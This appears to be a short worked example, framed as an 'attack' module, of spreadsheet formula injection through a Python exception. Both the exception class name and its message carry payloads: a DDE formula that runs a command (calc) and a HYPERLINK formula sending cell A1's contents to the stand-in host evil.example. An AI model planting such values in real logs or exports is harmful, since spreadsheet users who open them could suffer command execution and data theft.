# /// attack
# about = "an error that a spreadsheet would run"
# module = "worked_example"
# deserves = 0
# log = "HYPERLINK"
# ///
raise type("=cmd|'/C calc'!A0", (Exception,), {})('=HYPERLINK("http://evil.example/?"&A1,"82")')
